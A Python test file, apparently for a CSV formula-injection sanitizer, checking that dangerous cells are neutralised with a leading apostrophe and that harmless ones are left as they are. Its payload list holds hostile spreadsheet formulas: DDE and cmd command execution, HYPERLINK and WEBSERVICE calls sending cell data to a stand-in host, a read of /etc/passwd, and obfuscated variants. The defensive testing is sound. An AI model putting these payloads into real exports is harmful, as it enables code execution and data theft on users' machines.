"""No cell of a list is run by a spreadsheet, and nothing of it is lost."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mebyd.kit import csv_safe


pytestmark = pytest.mark.pure

PAYLOADS = [
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    '=WEBSERVICE("http://x.example/"&A1)',
    '=IMPORTXML("http://x.example","//a")',
    '=DDE("cmd";"/c calc";"x")',
    "='file:///etc/passwd'#$passwd.A1",
    "=",
    "==1",
    "=+1",
    "+1+1",
    "+cmd|'/c calc'!A1",
    "+A1",
    "+44 1234=1",
    "+44-1234",
    "+44 (0)1234",
    "++44",
    "+",
    "-1+1",
    "-cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "--1",
    "-A1",
    "-",
    "-1e9",
    "-1\n=1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "@A1",
    "\t=1+1",
    "\thello",
    "\r=1+1",
    "\n=1+1",
    "\r\n@A1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\0=1+1",
    "\x01=1+1",
    "\u0301=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "\N{MINUS SIGN}1+1",
]
READABLE = [
    "+44 1234",
    "+44 29 2000 0000",
    "+441234567890",
    "-5",
    "-12.5",
    "0",
    "Siân",
    "a=b",
    "team@example.org",
    "",
    "CF10 3NQ",
]


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_spreadsheet_runs_it(payload):
    assert csv_safe.safe(payload) == f"'{payload}"


@pytest.mark.parametrize("text", READABLE)
def test_what_is_harmless_stays_as_it_is(text):
    assert csv_safe.safe(text) == text


def test_numbers_and_nothing():
    assert [csv_safe.safe(cell) for cell in (None, 3, -2.5, True)] == [
        "",
        "3",
        "-2.5",
        "True",
    ]


@given(st.text())
def test_twice_is_once_and_nothing_is_lost(text):
    once = csv_safe.safe(text)
    assert csv_safe.safe(once) == once
    assert once.removeprefix("'") == text.removeprefix("'")


@given(st.sampled_from(PAYLOADS), st.text(" \t\n\x0b\u200b\u3000\ufeff", max_size=4))
def test_hiding_it_behind_what_is_not_seen_does_not_help(payload, before):
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL).writerow([csv_safe.safe(before + payload)])
    assert out.getvalue().startswith("\"'")
